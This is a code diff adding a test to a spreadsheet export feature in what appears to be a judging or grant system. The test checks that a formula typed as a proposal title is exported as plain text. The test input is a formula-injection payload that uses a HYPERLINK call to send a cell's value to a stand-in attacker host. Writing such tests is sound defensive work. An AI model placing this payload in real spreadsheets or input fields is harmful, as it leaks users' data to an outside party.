@@ -376,3 +376,19 @@ def test_export_holds_the_whole_record_of_a_stage(world: World) -> None:
     assert [row[0] for row in ranking[1:]] == [1, 2]
     audit = list(wb[wb.sheetnames[-1]].iter_rows(values_only=True))
     assert any("judging.stage.promote" in row for row in audit[1:])
+
+
+def test_export_keeps_a_formula_typed_as_a_title_as_text(world: World) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+    world.proposals(world.tenant(province="51"), 1, title=formula)
+    world.judges("desk_evaluation", 3)
+    world.open()
+    world.assign()
+    data = world.run(
+        lambda: stage_workbook(js(world.sid("desk_evaluation")), actor=user(world.staff.id))
+    )
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
+    titled = [c for c in cells if isinstance(c.value, str) and formula in c.value]
+    assert len(titled) >= 2  # entrants and assignments at least
+    assert all(c.data_type == "s" for c in titled)  # never a live formula
